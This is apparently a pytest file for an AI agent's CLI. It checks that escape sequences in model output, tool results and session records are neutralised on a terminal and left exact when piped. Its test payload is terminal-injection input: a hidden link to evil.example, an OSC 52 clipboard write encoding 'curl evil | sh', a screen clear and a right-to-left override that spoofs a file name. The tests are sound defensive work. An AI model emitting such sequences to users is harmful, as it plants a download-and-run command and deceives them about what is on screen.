"""Nothing from a transcript, a model or a tool reaches a terminal with its control sequences intact.

Each case carries the same payload: OSC 0 (retitle), OSC 8 (a hidden link),
OSC 52 (write the clipboard), CSI 2J (clear the screen), BEL, a C1 CSI
(U+009B) and a right-to-left override (U+202E). The app and the picker are
tested in tests/ui (they are being rewritten); here: `-p` to a terminal, the
plain REPL's previews, `sessions show` (text and --json) and `sessions list --json`.
"""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import time

from evo_agent.session import SessionStore
from tests.cli_runner import COMMAND
from tests.fake_model_server import text, tool_use

PAYLOAD = ("\x1b]0;pwned\x07 \x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ "
           "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b[2J \x07 \x9b31m \u202etxt.exe")
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def assert_harmless(shown: str, *, whole: bool = True) -> None:
    """No raw control character at all, and the sequences shown as visible text (all of them when `whole`)."""
    for char in RAW:
        assert char not in shown, (char, shown)
    assert "^[]0;pwned^G" in shown
    if whole:
        assert "^[]0;pwned^G" in shown and "^[[2J" in shown and "\\x9b31m" in shown and "\\u202etxt.exe" in shown


def _run_on_a_pty(cli, *args: str) -> tuple[int, str, str]:
    """The CLI with stdout on a pseudo-terminal (stderr piped): what a terminal would be sent."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([*COMMAND, *args], cwd=cli.project, env=cli.env, stdin=subprocess.DEVNULL,
                            stdout=slave, stderr=subprocess.PIPE)
    os.close(slave)
    screen = b""
    deadline = time.monotonic() + 60
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the other side closed
                    break
                if not chunk:
                    break
                screen += chunk
            elif proc.poll() is not None:
                break
        err = proc.stderr.read().decode()
        rc = proc.wait(30)
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(master)
    return rc, screen.decode("utf-8", "replace"), err


def test_print_mode_answer_to_a_terminal_is_made_harmless_and_to_a_pipe_stays_exact(cli, model_server):
    model_server.script(text("before " + PAYLOAD + " after"))
    rc, screen, err = _run_on_a_pty(cli, "-p", "say something")
    assert rc == 0, err
    assert_harmless(screen)
    assert "before" in screen and "after" in screen
    model_server.script(text("before " + PAYLOAD + " after"))
    piped = cli.run("-p", "say something")
    assert piped.rc == 0 and piped.out == "before " + PAYLOAD + " after\n"  # data for a program: unchanged


def test_the_plain_repl_previews_tool_output_harmlessly(cli, model_server):
    (cli.project / "notes.txt").write_text(PAYLOAD + "\nsecond line\n")
    model_server.script(tool_use("read_file", {"path": "notes.txt"}), text("Read it."))
    result = cli.run(input="read my notes\n")
    assert result.rc == 0, result.err
    (preview,) = [line for line in result.out_lines if line.lstrip().startswith("⎿")]
    assert_harmless(preview, whole=False)  # a preview is cut to one short line
    for char in RAW:
        assert char not in result.out and char not in result.err


def _hostile_session(project) -> tuple[str, str]:
    """A session whose compaction trigger, resume-marker id and first prompt carry the payload."""
    store = SessionStore(project, warn=lambda line: None)
    source = store.create(model="m", provider="demo", git_branch=None)
    source.user({"role": "user", "content": "first " + PAYLOAD})
    source.assistant({"role": "assistant", "content": [{"type": "text", "text": "ok"}]}, input_tokens=1, output_tokens=1)
    source.compact_boundary("summary " + PAYLOAD, 1, PAYLOAD)
    source.resume_marker(PAYLOAD, 0)
    source.checkpoint()
    return source.session_id, source.path.read_text()


def test_sessions_show_makes_every_field_harmless(demo_cli):
    sid, _ = _hostile_session(demo_cli.project)
    shown = demo_cli.run("sessions", "show", sid)
    assert shown.rc == 0, shown.err
    assert_harmless(shown.out)
    assert "── compacted · #1 · ^[]0;pwned^G" in shown.out
    assert "── resumed from ^[]0;pwned^G" in shown.out


def test_json_output_escapes_controls_and_bidi_marks_and_parses_to_the_same_data(demo_cli):
    sid, _ = _hostile_session(demo_cli.project)
    as_json = demo_cli.run("sessions", "show", sid, "--json")
    assert as_json.rc == 0, as_json.err
    for char in RAW:
        assert char not in as_json.out
    assert "\\u009b" in as_json.out and "\\u202e" in as_json.out
    records = json.loads(as_json.out)["records"]
    assert records[3]["trigger"] == PAYLOAD and records[4]["from_session_id"] == PAYLOAD
    listing = demo_cli.run("sessions", "list", "--json")
    for char in RAW:
        assert char not in listing.out
    (row,) = json.loads(listing.out)
    assert row["first_prompt"] == " ".join(("first " + PAYLOAD).split())
    fsck = demo_cli.run("sessions", "fsck", "--json")
    for char in RAW:
        assert char not in fsck.out


def test_an_export_to_a_terminal_is_made_harmless_and_to_a_pipe_stays_exact(demo_cli):
    sid, _ = _hostile_session(demo_cli.project)
    rc, screen, err = _run_on_a_pty(demo_cli, "sessions", "export", sid)
    assert rc == 0, err
    assert_harmless(screen)
    rc, screen, err = _run_on_a_pty(demo_cli, "sessions", "export", sid, "--format", "jsonl")
    assert rc == 0, err
    for char in RAW:
        assert char not in screen
    records = [json.loads(line) for line in screen.replace("\r\n", "\n").splitlines() if line.strip()]
    assert records[3]["trigger"] == PAYLOAD
    piped = demo_cli.run("sessions", "export", sid, "--format", "jsonl")
    transcript = (demo_cli.sessions_dir / sid / "messages.jsonl").read_text()
    assert piped.rc == 0 and piped.out == transcript  # to a program: the records byte for byte
